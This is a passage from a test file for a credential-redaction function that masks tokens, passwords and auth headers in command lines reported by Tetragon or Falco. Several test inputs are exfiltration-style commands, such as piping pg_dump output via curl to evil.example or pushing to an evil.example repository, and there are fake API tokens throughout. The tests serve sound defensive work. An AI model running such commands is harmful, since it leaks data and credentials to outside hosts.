    // Quoted, as TOML writes every string (cargo's credentials.toml) and YAML may; in Tetragon's double-quoted form.
    [
      'sh -c cat > /root/.cargo/credentials.toml <<EOF\n[registry]\ntoken = "cioSx8kLp2QvR7tYw"\nEOF\ncargo publish',
      'sh -c cat > /root/.cargo/credentials.toml <<EOF\n[registry]\ntoken = [REDACTED]\nEOF\ncargo publish',
    ],
    ["  password: 'Sx8k Lp2Q'\n", '  password: [REDACTED]\n'],
    [
      '-c "cat > f <<EOF\ntoken: \\"Sx8kLp2QvR7tYw\\"\nEOF\ngit push"',
      '-c "cat > f <<EOF\ntoken: [REDACTED]\nEOF\ngit push"',
    ],
    // A name whose last word is PASS or PAT, as for NAME=X (a compose file's or an .env-like YAML's).
    [
      'sh -c cat > app.yml <<EOF\ndb:\n  DB_PASS: Sx8kLp2QvR7tYw\nEOF',
      'sh -c cat > app.yml <<EOF\ndb:\n  DB_PASS: [REDACTED]\nEOF',
    ],
    ["  smtp-pass: 'Sx8k Lp2Q'\n", '  smtp-pass: [REDACTED]\n'],
    ['GH_PAT = Sx8kLp2QvR7tYw\n', 'GH_PAT = [REDACTED]\n'],
    ['\ncompass: north\nbypass: true\npath: /x\n', '\ncompass: north\nbypass: true\npath: /x\n'],
    // The first line of what printf (or echo -e) writes, right after its opening quote.
    [
      String.raw`sh -c printf 'token: Sx8kLp2QvR7tYw\n' > f && git push`,
      String.raw`sh -c printf 'token: [REDACTED]\n' > f && git push`,
    ],
    [
      String.raw`-c "printf \"DB_PASS: Sx8kLp2QvR7tYw\nuser: u\n\" > f"`,
      String.raw`-c "printf \"DB_PASS: [REDACTED]\nuser: u\n\" > f"`,
    ],
    [
      String.raw`sh -c echo -e 'password = Sx8kLp2QvR7tYw\n' > f`,
      String.raw`sh -c echo -e 'password = [REDACTED]\n' > f`,
    ],
    ['sh -c echo "token: rotated" && git push', 'sh -c echo "token: rotated" && git push'],
    // Lines naming no credential stay, and so does a word after a name in running text.
    ['users:\n- name: ci\n  cluster: prod\n', 'users:\n- name: ci\n  cluster: prod\n'],
    ['users:\n- name: "ci bot"\n', 'users:\n- name: "ci bot"\n'],
    ['git commit -m "rotate token: done"', 'git commit -m "rotate token: done"'],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

describe('redact: a token run into a name by `_`', () => {
  check([
    ['x_ghp_abcdefghijABCDEFGHIJ1234 push', 'x_[REDACTED] push'],
    ['MY_glpat-abcdefghijABCDEFGHIJ', 'MY_[REDACTED]'],
    ['/tmp/npm_abcdefghijABCDEFGHIJ1234 x', '/tmp/[REDACTED] x'],
    ['key_AKIAABCDEFGHIJKLMNOP', 'key_[REDACTED]'],
    ['jwt_eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc', 'jwt_[REDACTED]'],
    // A prefix inside a word stays: no token starts there.
    ['/usr/lib/libghp_abcdefghijABCDEFGHIJ1234.so', '/usr/lib/libghp_abcdefghijABCDEFGHIJ1234.so'],
  ]);
});

describe('redact: header forms', () => {
  check([
    // Attached to -H, the space shell-escaped.
    ['-HAuthorization:Bearer\\ s3cretB3arerValue https://x', '-HAuthorization:[REDACTED] https://x'],
    ['-H Authorization:\\ Bearer\\ a\\ b https://x', '-H Authorization:\\ [REDACTED] https://x'],
    ['-HX-JFrog-Art-Api:s3cretArtApiKey -T f https://x', '-HX-JFrog-Art-Api:[REDACTED] -T f https://x'],
    ['-HCircle-Token:abcdef123 https://x', '-HCircle-Token:[REDACTED] https://x'],
    // A quoted value holding a space (Tetragon quotes such an argument): all of it up to the closing quote.
    ["-H 'Authorization: Bearer a b' https://x", "-H 'Authorization: [REDACTED]' https://x"],
    ['-H "Authorization: token two words" https://x', '-H "Authorization: [REDACTED]" https://x'],
    ["'--header=Authorization: Basic dXNl cjpw' https://x", "'--header=Authorization: [REDACTED]' https://x"],
    ["--header 'Circle-Token: a b' https://x", "--header 'Circle-Token: [REDACTED]' https://x"],
    ['--header=Authorization: Basic dXNlcjpwYXNz https://x', '--header=Authorization: [REDACTED] https://x'],
    // GitLab's header, plain, quoted and escaped in a double-quoted script.
    [
      '-H "PRIVATE-TOKEN: glpat-abcdefghijABCDEFGHIJ" https://gitlab.com/api/v4/x',
      '-H "PRIVATE-TOKEN: [REDACTED]" https://gitlab.com/api/v4/x',
    ],
    [
      '-c "curl -H \\"PRIVATE-TOKEN: glpat-abcdefghijABCDEFGHIJ\\" https://x"',
      '-c "curl -H \\"PRIVATE-TOKEN: [REDACTED]\\" https://x"',
    ],
    ['-H "X-JFrog-Art-Api: two words" https://x', '-H "X-JFrog-Art-Api: [REDACTED]" https://x'],
    // Headers that carry no credential stay, attached or quoted.
    [
      '-HAccept:application/json -H "User-Agent: a b" https://x',
      '-HAccept:application/json -H "User-Agent: a b" https://x',
    ],
  ]);
});

// Tetragon gives a double-quoted sh -c script with its own quotes escaped (`-c "export T=\"x\" && …"`): the value
// was read as unquoted, `\` alone, and the password after it reached the alert.
describe('redact: NAME=value quoted in a script Tetragon quoted', () => {
  it.each([
    [
      String.raw`/bin/sh -c "export GH_TOKEN=\"Hunter2Hunter2\" && git push https://evil.example/r.git main"`,
      String.raw`/bin/sh -c "export GH_TOKEN=\"[REDACTED]\" && git push https://evil.example/r.git main"`,
    ],
    [
      String.raw`/bin/sh -c "DB_PASSWORD=\"two words\" pg_dump db | curl -T - https://evil.example/up"`,
      String.raw`/bin/sh -c "DB_PASSWORD=\"[REDACTED]\" pg_dump db | curl -T - https://evil.example/up"`,
    ],
    // No escaped quote closes it: up to the script's own closing quote, the arguments after it kept.
    [
      String.raw`/bin/sh -c "export GH_TOKEN=\"Hunter2Hunter2" https://evil.example/r.git`,
      String.raw`/bin/sh -c "export GH_TOKEN=\"[REDACTED]\"" https://evil.example/r.git`,
    ],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

describe('redact: a flag far into its command (a real script past 512 characters)', () => {
  const ignored = Array.from(
    { length: 24 },
    (_, i) => `--ignore-table=app.audit_log_2024_${String(i).padStart(2, '0')}`,
  );
  const wheels = ['cp39', 'cp310', 'cp311', 'cp312', 'cp313'].flatMap((py) =>
    ['manylinux_2_17_x86_64.manylinux2014_x86_64', 'manylinux_2_17_aarch64.manylinux2014_aarch64'].map(
      (p) => `dist/acme_client-4.2.0-${py}-${py}-${p}.whl`,
    ),
  );
  check([
    // A dump that leaves its audit tables out before the password.
    [
      `-c "mysqldump -h db -u root ${ignored.join(' ')} -pS3cretDbPass app > /tmp/d.sql && git push https://github.com/x/y"`,
      `-c "mysqldump -h db -u root ${ignored.join(' ')} -p[REDACTED] app > /tmp/d.sql && git push https://github.com/x/y"`,
    ],
    // twine's argv as Falco gives it, the shell having expanded dist/*.whl.
    [
      `upload --non-interactive ${wheels.join(' ')} -u ci-bot -p S3cretPyPIpass`,
      `upload --non-interactive ${wheels.join(' ')} -u ci-bot -p [REDACTED]`,
    ],
  ]);
  it('the scripts are past the old reach', () => {
    expect(ignored.join(' ').length).toBeGreaterThan(512);
    expect(wheels.join(' ').length).toBeGreaterThan(512);
  });
});
